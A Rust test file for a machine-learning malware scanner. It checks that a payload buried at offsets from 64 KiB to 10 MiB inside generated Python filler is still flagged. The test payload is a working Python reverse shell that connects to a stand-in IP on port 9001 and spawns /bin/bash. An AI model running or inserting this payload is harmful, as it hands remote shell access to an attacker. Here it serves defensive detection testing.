//! No size cliff: a payload anywhere in a large script is scored, at 64 KiB, 512 KiB, 1 MiB and
//! 10 MiB offsets, after module-level data, after one huge dict literal, and after functions.
use std::path::PathBuf;

use ward_ml::{scan, Model};

fn model() -> Model {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../models/python/model.bin");
    Model::load(&p).expect("shipped model loads")
}

const REVERSE_SHELL: &str = "import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n";

const WORDS: [&str; 45] = [
    "account", "balance", "cache", "draft", "entry", "folder", "group", "handler", "index",
    "journal", "kernel", "ledger", "member", "notice", "order", "parcel", "quota", "record",
    "schedule", "ticket", "update", "vendor", "widget", "zone", "author", "branch", "column",
    "digest", "export", "filter", "gadget", "header", "invoice", "label", "margin", "number",
    "option", "period", "query", "report", "sample", "table", "unit", "value", "window",
];

fn w(i: usize, k: usize) -> &'static str {
    WORDS[(i * 7 + k * 13 + i / WORDS.len()) % WORDS.len()]
}

/// Module-level settings with a varied vocabulary, `n` bytes.
fn data_module(n: usize) -> String {
    let mut t = String::from("# Generated settings.\n\n");
    let mut i = 0usize;
    while t.len() < n {
        t.push_str(&format!(
            "{}_{}_{i} = {{'{}': '{} {}', '{}': {i}, '{}': ['{}', '{}']}}\n",
            w(i, 0).to_uppercase(),
            w(i, 1).to_uppercase(),
            w(i, 2),
            w(i, 3),
            w(i, 4),
            w(i, 5),
            w(i, 6),
            w(i, 0),
            w(i, 1)
        ));
        i += 1;
    }
    t
}

/// One dict literal on a single line, `n` bytes.
fn dict_literal(n: usize) -> String {
    let mut t = String::from("TABLE = {");
    let mut i = 0usize;
    while t.len() < n {
        t.push_str(&format!("'{}_{i}': '{} {}', ", w(i, 0), w(i, 1), w(i, 2)));
        i += 1;
    }
    t.push_str("}\n");
    t
}

/// Plain functions, `n` bytes.
fn functions(n: usize) -> String {
    let mut t = String::from("import json\nimport os\n\n");
    let mut i = 0usize;
    while t.len() < n {
        t.push_str(&format!(
            "\ndef {}_{}_{i}(path, {}=None):\n    \"\"\"Return the {} of {}.\"\"\"\n    \
             if not os.path.exists(path):\n        return {}\n    with open(path) as f:\n        \
             data = json.load(f)\n    return data.get('{}', {i})\n",
            w(i, 0),
            w(i, 1),
            w(i, 2),
            w(i, 3),
            w(i, 4),
            w(i, 2),
            w(i, 5)
        ));
        i += 1;
    }
    t
}

#[test]
fn payload_at_any_offset_is_scored() {
    let m = model();
    let mut failures = Vec::new();
    for (kind, filler) in [
        ("data", data_module as fn(usize) -> String),
        ("dict", dict_literal),
        ("functions", functions),
    ] {
        // Appended (the tail window) and in the middle: 256 KiB more filler after it (one of the
        // densest tiles).
        for (off, after) in [
            (64 << 10, 0),
            (512 << 10, 0),
            (1 << 20, 0),
            (10 << 20, 0),
            (1 << 20, 256 << 10),
            (10 << 20, 256 << 10),
        ] {
            let base = filler(off);
            let clean = scan(&m, base.as_bytes());
            let at = base.len() + 1;
            let mut text = base;
            text.push('\n');
            text.push_str(REVERSE_SHELL);
            if after > 0 {
                // A fresh filler, so the line after the payload is a module-level line.
                text.push_str(&filler(after));
            }
            let t0 = std::time::Instant::now();
            let r = scan(&m, text.as_bytes());
            let ms = t0.elapsed().as_secs_f64() * 1e3;
            eprintln!(
                "{kind:>9} {off:>9}+{after:>6}: clean {:.3} with payload {:.3} malicious {} ({ms:.1} ms) {:?}",
                clean.score,
                r.score,
                r.malicious,
                r.top_reasons.first()
            );
            // Appended: caught. In the middle: its tile must be the region found (the score is
            // diluted by the tile's 16 KiB of filler; see the model card).
            let region_ok = r.top_reasons.first().is_some_and(|s| {
                s.strip_prefix("suspicious region at bytes ")
                    .and_then(|s| s.split(' ').next())
                    .and_then(|s| s.split_once(".."))
                    .and_then(|(a, b)| Some((a.parse::<usize>().ok()?, b.parse::<usize>().ok()?)))
                    .is_some_and(|(a, b)| a <= at && at < b)
            });
            let ok = if after == 0 {
                r.malicious
            } else {
                region_ok && r.score > 0.5
            };
            if clean.malicious || !ok {
                failures.push(format!(
                    "{kind} at {off}+{after}: clean {} payload {}",
                    clean.score, r.score
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}
